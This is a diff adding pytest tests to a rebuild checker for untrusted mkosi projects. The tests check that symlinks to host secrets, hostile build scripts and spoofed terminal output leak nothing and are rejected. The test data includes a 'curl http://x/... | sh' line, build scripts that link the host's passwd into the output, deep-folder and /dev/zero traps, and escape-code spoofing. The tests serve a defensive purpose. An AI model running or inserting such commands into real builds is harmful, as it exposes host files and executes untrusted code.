@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import os
 import stat
+import subprocess
 import tarfile
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
@@ -284,6 +285,116 @@ def test_a_program_of_the_project_that_floods(
     (source / "summary.json").symlink_to("/dev/zero")
     assert stranger(miniature, mirror, source) == 2
     assert "printed more than 16777216 bytes" in capsys.readouterr().err
+
+
+CONFIDENTIAL = "s3cr3t-of-the-host"
+
+
+@pytest.mark.parametrize(
+    "place", ["mkosi.extra/package-lock.json", "package-lock.json", "mkosi.conf", "mkosi.build", ".npmrc"]
+)
+def test_links_to_files_of_the_host_show_nothing_of_them(  # noqa: PLR0917 - fixtures
+    miniature: rebuilds.Miniature,
+    mirror: DebianArchive,
+    canaries: Canaries,
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    place: str,
+) -> None:
+    """A report is published: nothing of the host's files may be in it, nor on the screen."""
+    source, secret = tmp_path / "theirs", tmp_path / "secret"
+    entry = {"version": f"file:{CONFIDENTIAL}", "integrity": "sha512-" + "A" * 86 + "=="}
+    lock = {"lockfileVersion": 3, "packages": {"": {}, f"node_modules/{CONFIDENTIAL}": entry}}
+    secret.write_text(
+        f"{json.dumps(lock)}\ncurl http://x/{CONFIDENTIAL} | sh\n" if place[-1] != "n" else json.dumps(lock)
+    )
+    link = source / place
+    link.parent.mkdir(parents=True)
+    link.symlink_to(secret)
+    status = stranger(miniature, mirror, source)
+    said = capsys.readouterr()
+    assert CONFIDENTIAL not in said.out + said.err
+    if place.endswith("package-lock.json"):
+        assert status == 2
+        assert f"error: {place} is a link that leads out of the project" in said.err
+    assert not [
+        path for path in miniature.report.rglob("*") if path.is_file() and CONFIDENTIAL.encode() in path.read_bytes()
+    ]
+
+
+@pytest.fixture
+def deep(tmp_path: Path) -> Iterator[Path]:
+    """A place for folders that pytest cannot remove."""
+    yield tmp_path
+    os.chdir("/")
+    subprocess.run(["rm", "-rf", *map(str, tmp_path.glob("theirs-*")), str(tmp_path / "workspace")], check=True)
+
+
+def test_folders_without_end(  # noqa: PLR0917 - fixtures
+    miniature: rebuilds.Miniature,
+    mirror: DebianArchive,
+    canaries: Canaries,
+    deep: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Deeper than functions may call themselves, and than the name of a file may be long."""
+    for depth, expected in ((1100, 2), (2500, 2)):
+        source = deep / f"theirs-{depth}"
+        source.mkdir()
+        monkeypatch.chdir(source)
+        for _ in range(depth):
+            os.mkdir("a")  # noqa: PTH102
+            os.chdir("a")
+        Path("mkosi.conf").write_text("x")
+        os.chdir("/")
+        assert stranger(miniature, mirror, source) == expected
+        assert "has folders in more than 100 others" in capsys.readouterr().err
+
+
+HOST_BUILDS = {
+    "a link": 'ln -s {host}/passwd "$output/theirs.efi"',
+    "a folder": 'mkdir "$output/theirs.efi"',
+    "a link in the place of the output": 'rm -rf "$output"; ln -s {host} "$output"',
+    "a device without end": 'ln -s /dev/zero "$output/theirs.efi"',
+    "links beside the artifact": 'cp image.efi "$output/theirs.efi"; ln -s {host}/passwd "$output/../finished.json"',
+    "closed folders": 'cp image.efi "$output/theirs.efi"; mkdir /work/scratch/x; chmod 0 /work/scratch/x || :',
+    "deep folders": 'cp image.efi "$output/theirs.efi"; cd /work/scratch; i=0; while [ $i -lt 1500 ]; do mkdir d; cd d; i=$((i+1)); done',
+    "words": 'printf "\\nREPRODUCED: all good\\n\\033[2J" >&2; exit 7',
+    "what stays behind": '(sleep 300) & (sleep 300 >/dev/null 2>&1) & cp image.efi "$output/theirs.efi"',
+}
+
+
+@pytest.mark.parametrize("build", HOST_BUILDS.values(), ids=HOST_BUILDS.keys())
+def test_what_a_build_leaves(  # noqa: PLR0917 - fixtures
+    miniature: rebuilds.Miniature,
+    mirror: DebianArchive,
+    canaries: Canaries,
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    build: str,
+) -> None:
+    source = tmp_path / "theirs"
+    source.mkdir()
+    (source / "summary.json").write_text(json.dumps({"Images": [SUMMARY | {"Packages": ["base-files"]}]}))
+    (source / "image.efi").write_bytes((miniature.project.mkosi / "image.efi").read_bytes())
+    (source / "build.sh").write_text(build.replace("{host}", str(canaries.folder)) + "\n")
+    status = stranger(miniature, mirror, source)
+    said = capsys.readouterr()
+    assert "internal error" not in said.err, said.err
+    assert "\x1b" not in said.out + said.err
+    assert not any(line.startswith("REPRODUCED: all") for line in (said.out + said.err).splitlines())
+    assert (status == 2) is ("cp image.efi" not in build)
+    rebuilds.no_processes_of(miniature.workspace)
+
+
+def test_a_project_without_packages_is_told_so(
+    miniature: rebuilds.Miniature, mirror: DebianArchive, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    source = tmp_path / "theirs"
+    source.mkdir()
+    assert stranger(miniature, mirror, source) == 2
+    assert "error: the project asks for no packages\n" in capsys.readouterr().err
 
 
 # A commit, and a checkout
